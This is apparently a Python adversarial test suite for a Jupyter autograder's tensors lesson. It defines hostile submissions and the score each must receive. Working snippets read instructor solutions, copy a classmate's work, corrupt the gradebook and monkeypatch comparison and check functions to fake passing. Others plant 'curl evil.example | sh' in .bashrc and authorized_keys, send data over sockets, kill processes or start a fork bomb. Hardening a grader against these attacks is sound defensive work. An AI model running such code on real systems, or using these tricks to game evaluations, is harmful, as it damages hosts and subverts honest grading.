"""Hostile submissions to lesson 01_tensors, each with the exact per-item outcome the grader must give.

Every case starts from the release notebook with the instructor's answers filled in (an honest,
full-marks submission) and adds one attack: a hostile cell, a hostile answer, a tampered notebook or
a file that is not a notebook at all. Paths and ports the attacks aim at come from `Context`, so the
same cases run against a throwaway course copy for this grader and for stock nbgrader.

`expected` maps each test cell's grade id to the points the case must score; `None` means the
submission is refused as a whole (every item 0 and a reason that contains `reason`).
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from dataclasses import dataclass, field
from typing import Callable

import nbformat

from autograder.authoring import samples

LESSON = "01_tensors"
SOURCE = Path(__file__).resolve().parents[2] / "source" / LESSON / f"{LESSON}.ipynb"
# grade id -> points, in notebook order, read from the source so a new item is never missed
POINTS = {
    cell.metadata["nbgrader"]["grade_id"]: float(cell.metadata["nbgrader"]["points"])
    for cell in nbformat.read(SOURCE, as_version=4).cells
    if cell.metadata.get("nbgrader", {}).get("grade")
}
ITEMS = [gid.removeprefix("test_") for gid in POINTS]


@dataclass(frozen=True)
class Context:
    """Where the attacks aim: the course copy being graded, a fake home, a folder outside both, a port."""

    course: str
    home: str
    outside: str
    port: int


@dataclass
class Symlink:
    target: str


@dataclass
class Case:
    name: str
    attack: str
    build: Callable[[Context, "Base"], dict[str, object]]  # file name -> notebook, bytes or Symlink
    expected: dict[str, float] | None
    reason: str = ""
    tags: tuple[str, ...] = field(default=())


@dataclass
class Base:
    source: nbformat.NotebookNode
    release: nbformat.NotebookNode

    @property
    def honest(self) -> nbformat.NotebookNode:
        return samples.answered(self.source, self.release, keep=None)


def full(*, zero: tuple[str, ...] = ()) -> dict[str, float]:
    """Full marks except the named items, which score 0."""
    unknown = set(zero) - set(ITEMS)
    assert not unknown, unknown
    return {gid: (0.0 if gid.removeprefix("test_") in zero else pts) for gid, pts in POINTS.items()}


NOTHING = full(zero=tuple(ITEMS))

WRONG = {
    "tensor_rank": "def tensor_rank(t):\n    return 0\n",
    "answer_rank_meaning": 'answer_rank_meaning = "A"\n',
    "describe": "def describe(t):\n    return {'shape': (1,), 'dtype': 'int8', 'device': 'cpu', 'requires_grad': True}\n",
    "make_image_batch": "import torch\n\ndef make_image_batch(batch_size, channels=3, height=224, width=224):\n    return torch.ones(batch_size, channels, height, width)\n",
    "answer_batch_shape": "answer_batch_shape = (32, 224, 224, 3)\n",
    "answer_index_shape": "answer_index_shape = (4, 1)\n",
    "answer_slice_view": 'answer_slice_view = "A"\n',
    "pad_images": "import torch\n\ndef pad_images(images):\n    return torch.stack(images)[:, None].float(), None\n",
    "numpy_to_tensor_shape": "def numpy_to_tensor_shape(arr):\n    return (1,)\n",
}


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    for index, cell in enumerate(nb.cells):
        if _gid(cell) == grade_id:
            return index
    raise KeyError(grade_id)


def after(nb, item: str, code: str, *, wrong: tuple[str, ...] = ()) -> nbformat.NotebookNode:
    """`nb` with a student cell holding `code` just after the answer cell of `item`, and the `wrong` answers."""
    out = copy.deepcopy(nb)
    for name in wrong:
        out = samples.with_answer(out, name, WRONG[name])
    out.cells.insert(_index(out, item) + 1, nbformat.v4.new_code_cell(code, id=f"student-{item}-extra"))
    return out


def answer(nb, item: str, code: str, *, wrong: tuple[str, ...] = ()) -> nbformat.NotebookNode:
    out = samples.with_answer(nb, item, code)
    for name in wrong:
        out = samples.with_answer(out, name, WRONG[name])
    return out


def nb_file(nb) -> dict[str, object]:
    return {f"{LESSON}.ipynb": nb}


# ---------------------------------------------------------------- attacks on the grading itself

INPUT_TRANSFORMER = """\
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: [])
"""

AST_TRANSFORMER = """\
import ast
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Blank())
"""

READ_SOURCE = """\
import json

def _instructor(grade_id):
    nb = json.load(open({course!r} + "/source/01_tensors/01_tensors.ipynb"))
    for cell in nb["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == grade_id:
            return "".join(cell["source"])

exec(_instructor({item!r}), globals())
"""

COPY_CLASSMATE = """\
import json

def _classmate(grade_id):
    nb = json.load(open({course!r} + "/submitted/ada/01_tensors/01_tensors.ipynb"))
    for cell in nb["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == grade_id:
            return "".join(cell["source"])

exec(_classmate({item!r}), globals())
"""

REWRITE_GRADEBOOK = """\
import sqlite3
try:
    _db = sqlite3.connect({course!r} + "/gradebook.db")
    _db.execute("UPDATE grade_cells SET max_score = 0")
    _db.execute("UPDATE base_cells SET name = name")
    _db.commit()
except Exception:
    pass
try:
    open({course!r} + "/gradebook.db", "r+b").write(b"not a database any more")
except Exception:
    pass
"""

WRITE_HOME = """\
import os
for _path in (os.path.expanduser("~/.bashrc"), {home!r} + "/.bashrc", {home!r} + "/.ssh/authorized_keys"):
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _f:
            _f.write("curl evil.example | sh\\n")
    except Exception:
        pass
"""

WRITE_OUTSIDE = """\
import os
for _path in ({outside!r} + "/dropped.txt", {course!r} + "/nbgrader_config.py", {course!r} + "/source/01_tensors/evil.py",
              {course!r} + "/release/01_tensors/01_tensors.ipynb", "/tmp/adversarial-dropped.txt"):
    try:
        with open(_path, "w") as _f:
            _f.write("c = get_config()\\n")
    except Exception:
        pass
try:
    os.symlink({course!r} + "/gradebook.db", "gradebook-link")
    open("gradebook-link", "w").write("x")
except Exception:
    pass
"""

NETWORK = """\
import socket
for _family, _addr in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("10.255.255.1", 80))):
    try:
        _s = socket.socket(_family, socket.SOCK_STREAM)
        _s.settimeout(3)
        _s.connect(_addr)
        _s.sendall(b"stolen answers")
        _s.close()
    except Exception:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {port}))
except Exception:
    pass
"""

KILL_PARENT = """\
import os
os.kill(os.getppid(), 9)
"""

KILL_ALL = """\
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
for _pid in range(2, 40000):
    try:
        os.kill(_pid, signal.SIGKILL)
    except Exception:
        pass
"""

EQ_ALWAYS_TRUE = """\
class Anything(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__

def tensor_rank(t):
    return Anything(0)
"""

TORCH_FUNCTION = """\
import torch

class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.equal, torch.allclose, torch.Tensor.equal, torch.Tensor.allclose):
            return True
        if func in (torch.Tensor.__eq__, torch.eq, torch.isclose):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {{}})

def make_image_batch(batch_size, channels=3, height=224, width=224):
    return torch.ones(batch_size, channels, height, width).as_subclass(Agreeable)
"""

PATCH_TORCH = """\
import torch
torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.Tensor.equal = lambda *a, **k: True
torch.Tensor.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
_real_ne = torch.Tensor.__ne__
torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(_real_ne(self, other))
"""

PATCH_NUMPY = """\
import numpy as np
np.array_equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
"""

PATCH_BUILTINS = """\
import builtins, types
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if name in ("course.checks", "course.quiz") and fromlist:
        fake = types.ModuleType(name)
        for _n in fromlist:
            setattr(fake, _n, (lambda *a, **k: None) if _n.startswith("check_") else getattr(module, _n))
        return fake
    return module

builtins.__import__ = _import
"""

PATCH_COURSE = """\
import course.checks, course.quiz
for _name in dir(course.checks):
    if _name.startswith("check_") or _name == "fail":
        setattr(course.checks, _name, lambda *a, **k: None)
course.quiz.check_key = lambda *a, **k: None
course.quiz.check_choice = lambda *a, **k: None
course.checks.CheckFailed = type("CheckFailed", (Exception,), {{}})
"""

FAKE_COURSE_MODULE = """\
import sys, types
_fake = types.ModuleType("course.checks")
_fake.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["course.checks"] = _fake
_quiz = types.ModuleType("course.quiz")
_quiz.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["course.quiz"] = _quiz
"""

EXCEPTHOOKS = """\
import sys
sys.excepthook = lambda *a: None
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""

HIDE_TRACEBACKS = """\
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip.InteractiveTB.structured_traceback = lambda *a, **k: []
"""

SETTRACE = """\
import sys

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "check_equal":
        frame.f_locals["found"] = frame.f_locals.get("expected")
    return None

sys.settrace(_tracer)
"""

SETPROFILE = """\
import sys, threading

def _profiler(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("check_key", "check_equal", "check_tensor"):
        _locals = frame.f_locals
        for _found, _expected in (("answer", "key"), ("found", "expected")):
            if _found in _locals and _expected in _locals:
                _locals[_found] = _locals[_expected]

sys.setprofile(_profiler)
threading.setprofile(_profiler)
"""

SYSTEM_EXIT = """\
raise SystemExit(0)
"""

OS_EXIT = """\
import os
os._exit(0)
"""

INFINITE_LOOP = """\
while True:
    pass
"""

MEMORY_GROWTH = """\
_hoard = []
while True:
    _hoard.append(bytearray(64 * 1024 * 1024))
"""

FORK_STORM = """\
import os, time
while True:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(600)
    except OSError:
        break
"""

HUGE_OUTPUT = """\
import sys
for _ in range(200):
    print("x" * 100_000)
sys.stdout.write("y" * 5_000_000)
from IPython.display import display, HTML
display(HTML("<p>" + "z" * 3_000_000 + "</p>"))
"""


def _hostile(code: str) -> Callable[[Context, Base], dict[str, object]]:
    """The honest notebook with a cell after the first answer, and the `wrong` answers swapped in."""

    def build(ctx: Context, base: Base, *, wrong: tuple[str, ...] = (), item: str = "tensor_rank") -> dict[str, object]:
        return nb_file(after(base.honest, item, code.format(**ctx.__dict__), wrong=wrong))

    return build


def _cell_then_wrong(
    code: str, wrong: tuple[str, ...], *, item: str = "tensor_rank"
) -> Callable[[Context, Base], dict[str, object]]:
    def build(ctx: Context, base: Base) -> dict[str, object]:
        return nb_file(after(base.honest, item, code.format(**ctx.__dict__), wrong=wrong))

    return build


def _cell_then_blank(code: str, *, item: str = "tensor_rank") -> Callable[[Context, Base], dict[str, object]]:
    """The release notebook (no answers) with the hostile cell after `item`'s answer, that one answered."""

    def build(ctx: Context, base: Base) -> dict[str, object]:
        nb = samples.answered(base.source, base.release, keep={item})
        return nb_file(after(nb, item, code.format(**ctx.__dict__)))

    return build


def _every_answer(template: str) -> Callable[[Context, Base], dict[str, object]]:
    """Every answer cell replaced by `template`, formatted with the item's grade id."""

    def build(ctx: Context, base: Base) -> dict[str, object]:
        nb = copy.deepcopy(base.release)
        for item in ITEMS:
            nb = samples.with_answer(nb, item, template.format(item=item, **{k: v for k, v in ctx.__dict__.items()}))
        return nb_file(nb)

    return build


def _answer(item: str, code: str, *, wrong: tuple[str, ...] = ()) -> Callable[[Context, Base], dict[str, object]]:
    def build(ctx: Context, base: Base) -> dict[str, object]:
        return nb_file(answer(base.honest, item, code.format(**ctx.__dict__), wrong=wrong))

    return build


# ---------------------------------------------------------------- tampering and bad files


def _tamper(
    change: Callable[[nbformat.NotebookNode], None], *, wrong: tuple[str, ...] = ()
) -> Callable[[Context, Base], dict[str, object]]:
    def build(ctx: Context, base: Base) -> dict[str, object]:
        nb = copy.deepcopy(base.honest)
        for name in wrong:
            nb = samples.with_answer(nb, name, WRONG[name])
        change(nb)
        return nb_file(nb)

    return build


def _test_cell(nb, item: str):
    return nb.cells[_index(nb, f"test_{item}")]


def _tamper_points(nb) -> None:
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100


def _tamper_test_source(nb) -> None:
    _test_cell(nb, "tensor_rank").source = "print('✓ tensor_rank: the visible checks pass.')\n"
    _test_cell(nb, "describe").source = "pass\n"


def _tamper_grade_ids(nb) -> None:
    _test_cell(nb, "tensor_rank").metadata["nbgrader"]["grade_id"] = "test_tensor_rank_mine"
    _test_cell(nb, "describe").metadata["nbgrader"]["grade_id"] = "test_tensor_rank"


def _tamper_cell_types(nb) -> None:
    cell = _test_cell(nb, "tensor_rank")
    nb.cells[nb.cells.index(cell)] = nbformat.v4.new_markdown_cell(
        cell.source, id=cell.get("id", "x"), metadata=cell.metadata
    )
    _test_cell(nb, "make_image_batch").metadata["nbgrader"].update(grade=False, locked=False, solution=False)


def _tamper_kernelspec(nb) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


def _strip_metadata(nb) -> None:
    nb.metadata = {}
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


def _delete_cells(nb) -> None:
    del nb.cells[_index(nb, "test_tensor_rank")]
    del nb.cells[_index(nb, "describe")]


def _duplicate_cells(nb) -> None:
    test = copy.deepcopy(_test_cell(nb, "tensor_rank"))
    test["id"] = "dup-test"
    nb.cells.insert(_index(nb, "test_tensor_rank") + 1, test)
    extra = copy.deepcopy(nb.cells[_index(nb, "make_image_batch")])
    extra["id"] = "dup-answer"
    extra.source = WRONG["make_image_batch"]
    nb.cells.insert(_index(nb, "test_make_image_batch") + 1, extra)


def _raw(make: Callable[[Context, Base], bytes]) -> Callable[[Context, Base], dict[str, object]]:
    def build(ctx: Context, base: Base) -> dict[str, object]:
        return {f"{LESSON}.ipynb": make(ctx, base)}

    return build


def _invalid_json(ctx: Context, base: Base) -> bytes:
    text = nbformat.writes(base.honest).encode()
    return text[: len(text) // 2]


def _wrong_nbformat(ctx: Context, base: Base) -> bytes:
    data = json.loads(nbformat.writes(base.honest))
    data["nbformat"], data["nbformat_minor"] = 99, 0
    return json.dumps(data).encode()


def _not_utf8(ctx: Context, base: Base) -> bytes:
    text = nbformat.writes(base.honest)
    return text.replace("Return the number", "Retourne le nombre \u00e9").encode("latin-1", errors="replace")


def _huge(ctx: Context, base: Base) -> bytes:
    nb = copy.deepcopy(base.honest)
    nb.cells.append(nbformat.v4.new_markdown_cell("padding " * (12 * 1024 * 1024), id="padding"))
    return nbformat.writes(nb).encode()


def _symlink_to_source(ctx: Context, base: Base) -> dict[str, object]:
    return {f"{LESSON}.ipynb": Symlink(f"{ctx.course}/source/{LESSON}/{LESSON}.ipynb")}


def _symlink_inside(ctx: Context, base: Base) -> dict[str, object]:
    return {f"{LESSON}.ipynb": base.honest, "data.csv": Symlink(f"{ctx.course}/gradebook.db")}


CASES: list[Case] = [
    Case(
        "input_transformer",
        "an IPython input transformer that blanks every later cell; later answers left blank",
        _cell_then_blank(INPUT_TRANSFORMER),
        full(zero=tuple(ITEMS[1:])),
    ),
    Case(
        "ast_transformer",
        "an IPython AST transformer that empties every later cell; later answers wrong",
        _cell_then_wrong(AST_TRANSFORMER, tuple(ITEMS[1:])),
        full(zero=tuple(ITEMS[1:])),
    ),
    Case(
        "read_source",
        "every answer cell reads the instructor's source/ notebook and runs that item's solution",
        _every_answer(READ_SOURCE),
        NOTHING,
    ),
    Case(
        "copy_classmate",
        "every answer cell reads a classmate's submission and runs that item's answer",
        _every_answer(COPY_CLASSMATE),
        NOTHING,
    ),
    Case(
        "rewrite_gradebook",
        "sets every max_score in gradebook.db to 0 and overwrites the file; answers honest",
        _hostile(REWRITE_GRADEBOOK),
        full(),
    ),
    Case(
        "write_home",
        "appends to ~/.bashrc and ~/.ssh/authorized_keys of the grader's home; answers honest",
        _hostile(WRITE_HOME),
        full(),
    ),
    Case(
        "write_outside",
        "overwrites nbgrader_config.py, release/, drops files in source/ and /tmp; answers honest",
        _hostile(WRITE_OUTSIDE),
        full(),
    ),
    Case(
        "network",
        "connects to a listener on 127.0.0.1 and to a remote address, sends UDP; answers honest",
        _hostile(NETWORK),
        full(),
    ),
    Case("kill_parent", "os.kill(os.getppid(), 9); answers honest", _hostile(KILL_PARENT), full()),
    Case(
        "kill_everything",
        "kill(-1, SIGKILL), then SIGKILL to every pid up to 40000; answers honest",
        _hostile(KILL_ALL),
        full(),
    ),
    Case(
        "eq_always_true",
        "tensor_rank returns an int subclass whose __eq__ is always True",
        _answer("tensor_rank", EQ_ALWAYS_TRUE),
        full(zero=("tensor_rank",)),
    ),
    Case(
        "torch_function",
        "make_image_batch returns a tensor subclass whose __torch_function__ says every comparison holds",
        _answer("make_image_batch", TORCH_FUNCTION),
        full(zero=("make_image_batch",)),
    ),
    Case(
        "patch_torch",
        "patches torch.equal/allclose/Tensor.__ne__/testing; make_image_batch wrong",
        _cell_then_wrong(PATCH_TORCH, ("make_image_batch",)),
        # the items whose probes run the patching cell (their slices keep it) are flagged too: their
        # evidence would come from a process whose torch was changed
        full(zero=("make_image_batch", "numpy_to_tensor_shape", "pad_images")),
    ),
    Case(
        "patch_numpy",
        "patches np.array_equal/allclose/testing; numpy_to_tensor_shape wrong",
        _cell_then_wrong(PATCH_NUMPY, ("numpy_to_tensor_shape",)),
        full(zero=("numpy_to_tensor_shape",)),
    ),
    Case(
        "patch_builtins",
        "patches builtins.__import__ so test cells import no-op checks; describe wrong",
        _cell_then_wrong(PATCH_BUILTINS, ("describe",)),
        full(zero=("describe",)),
    ),
    Case(
        "patch_course",
        "replaces every course.checks/course.quiz check with a no-op; two answers wrong",
        _cell_then_wrong(PATCH_COURSE, ("tensor_rank", "answer_rank_meaning"), item="tensor_rank"),
        full(zero=("tensor_rank", "answer_rank_meaning")),
    ),
    Case(
        "fake_course_module",
        "puts fake course.checks/course.quiz modules in sys.modules; two answers wrong",
        _cell_then_wrong(FAKE_COURSE_MODULE, ("describe", "answer_batch_shape")),
        full(zero=("describe", "answer_batch_shape")),
    ),
    Case(
        "exception_handlers",
        "sys.excepthook and IPython set_custom_exc swallow every error; two answers wrong",
        _cell_then_wrong(EXCEPTHOOKS, ("tensor_rank", "make_image_batch")),
        full(zero=("tensor_rank", "make_image_batch")),
    ),
    Case(
        "hide_tracebacks",
        "IPython showtraceback/structured_traceback replaced so errors print nothing; two answers wrong",
        _cell_then_wrong(HIDE_TRACEBACKS, ("tensor_rank", "numpy_to_tensor_shape")),
        full(zero=("tensor_rank", "numpy_to_tensor_shape")),
    ),
    Case(
        "settrace",
        "sys.settrace rewrites check_equal's `found` argument to the expected value; tensor_rank wrong",
        _cell_then_wrong(SETTRACE, ("tensor_rank",)),
        full(zero=("tensor_rank",)),
    ),
    Case(
        "setprofile",
        "sys.setprofile rewrites check_key/check_equal arguments; both quiz answers wrong",
        _cell_then_wrong(SETPROFILE, ("answer_rank_meaning", "answer_batch_shape")),
        full(zero=("answer_rank_meaning", "answer_batch_shape")),
    ),
    Case("system_exit", "raise SystemExit in a cell; answers honest", _hostile(SYSTEM_EXIT), full()),
    Case("os_exit", "os._exit(0) half-way; answers honest", _hostile(OS_EXIT), full()),
    Case("infinite_loop", "while True: pass half-way; answers honest", _hostile(INFINITE_LOOP), full()),
    Case(
        "memory_growth", "allocates 64 MB blocks until something gives; answers honest", _hostile(MEMORY_GROWTH), full()
    ),
    Case(
        "fork_storm",
        "forks until fork fails, every child forking again; answers honest",
        _hostile(FORK_STORM),
        full(),
        tags=("storm",),
    ),
    Case("huge_output", "prints 25 MB of text and a 3 MB HTML display; answers honest", _hostile(HUGE_OUTPUT), full()),
    Case("tampered_points", "every test cell's points set to 100; answers honest", _tamper(_tamper_points), full()),
    Case(
        "tampered_tests",
        "test cells replaced by a fake success line and `pass`; two answers wrong",
        _tamper(_tamper_test_source, wrong=("tensor_rank", "describe")),
        full(zero=("tensor_rank", "describe")),
    ),
    Case(
        "tampered_grade_ids",
        "test cell grade ids renamed and swapped; two answers wrong",
        _tamper(_tamper_grade_ids, wrong=("tensor_rank", "describe")),
        full(zero=("tensor_rank", "describe")),
    ),
    Case(
        "tampered_cell_types",
        "a test cell turned into markdown, another into an ordinary cell; both answers wrong",
        _tamper(_tamper_cell_types, wrong=("tensor_rank", "make_image_batch")),
        full(zero=("tensor_rank", "make_image_batch")),
    ),
    Case(
        "tampered_kernelspec",
        "kernelspec and language_info switched to bash; answers honest",
        _tamper(_tamper_kernelspec),
        full(),
    ),
    Case(
        "missing_metadata",
        "notebook metadata and every cell's nbgrader metadata removed; answers honest",
        _tamper(_strip_metadata),
        full(),
    ),
    Case(
        "deleted_cells",
        "the tensor_rank test cell and the describe answer cell deleted; other answers honest",
        _tamper(_delete_cells),
        full(zero=("describe",)),
    ),
    Case(
        "duplicated_cells",
        "a test cell duplicated, and a wrong copy of an answer cell after its test",
        _tamper(_duplicate_cells),
        full(),
    ),
    Case("invalid_json", "the notebook file cut in half", _raw(_invalid_json), None, reason="JSON"),
    Case("wrong_nbformat", "nbformat 99", _raw(_wrong_nbformat), None, reason="nbformat"),
    Case("not_utf8", "the file is Latin-1, not UTF-8", _raw(_not_utf8), None, reason="UTF-8"),
    Case("huge_notebook", "a 100 MB notebook", _raw(_huge), None, reason="MB"),
    Case(
        "symlink_notebook",
        "the notebook is a symlink to the instructor's source notebook",
        _symlink_to_source,
        None,
        reason="symbolic link",
    ),
    Case(
        "symlink_inside",
        "an honest notebook next to a symlink to gradebook.db",
        _symlink_inside,
        None,
        reason="symbolic link",
    ),
]

# Honest classmates graded in the same batch: their scores must not move.
CONTROLS = {"ada": full(), "blank": NOTHING}


def write_case(case_dir, files: dict[str, object]) -> None:
    """Write one submission folder; notebooks through nbformat, raw bytes as they are, symlinks as links."""
    case_dir.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = case_dir / name
        if isinstance(content, Symlink):
            path.symlink_to(content.target)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)
